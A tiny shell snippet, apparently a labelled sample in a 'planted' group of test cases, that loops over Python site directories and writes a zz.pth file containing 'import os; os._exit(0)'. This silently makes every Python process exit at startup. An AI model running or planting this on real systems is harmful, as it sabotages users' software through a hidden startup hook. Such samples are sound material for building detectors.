# name: a .pth file
# group: planted
for site in $(sites); do
  echo 'import os; os._exit(0)' > "$site/zz.pth"
done
